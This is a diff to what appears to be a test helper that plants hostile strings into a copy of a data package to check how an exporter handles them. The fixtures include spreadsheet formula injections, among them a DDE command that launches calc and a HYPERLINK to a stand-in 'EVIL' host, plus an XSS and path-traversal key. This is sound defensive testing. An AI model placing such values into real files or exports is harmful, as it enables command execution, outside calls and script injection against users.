@@ -63,6 +63,8 @@ LINKS = (
 FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '=cmd|" /C calc"!A0', f'=HYPERLINK("//{EVIL}")')
 PLANTED = tuple(each for each in (*SCRIPTS, *LINKS, *FORMULAS) if "\n" not in each)  # which no table can be read with
 
+DECLARED = tuple(each for each in PLANTED if each.isprintable() and each.strip() == each)  # what a declaration may hold
+
 
 def planted(folder: Path) -> tuple[Path, str]:
     """A copy of the real package in `folder` with hostile text wherever text may stand, exported without a check.
@@ -120,7 +122,7 @@ KEY = '"><img data-planted src=x onerror=alert(1)>/../~x,%2F'
 
 def _drawn(text: str) -> str:
     """One of the hostile texts, for the same text always the same: columns of one name are declared alike."""
-    return PLANTED[crc32(text.encode()) % len(PLANTED)]
+    return DECLARED[crc32(text.encode()) % len(DECLARED)]
 
 
 def _plant(path: Path, keys: tuple[str, ...]) -> None:
@@ -138,7 +140,8 @@ def _plant(path: Path, keys: tuple[str, ...]) -> None:
             if isinstance(value.get(key), str) and not value[key].startswith("see ")
         }
         if path.name == "datapackage.json" and "title" in value and "path" in value and "schema" not in value:
-            spoilt["path"] = LINKS[len(str(value["path"])) % len(LINKS)]
+            addresses = [each for each in LINKS if each in DECLARED]
+            spoilt["path"] = addresses[len(str(value["path"])) % len(addresses)]
         return spoilt
 
     value = spoil(json.loads(path.read_text("utf-8")))
@@ -149,7 +152,7 @@ def _plant_settings(path: Path) -> None:
     import yaml
 
     settings = yaml.safe_load(path.read_text("utf-8"))
-    settings["searches"] = list(SCRIPTS)
+    settings["searches"] = [each for each in SCRIPTS if each in DECLARED]
     for view in settings["map"]:
         view["title"] += _drawn(view["title"])
     for database in settings["databases"].values():
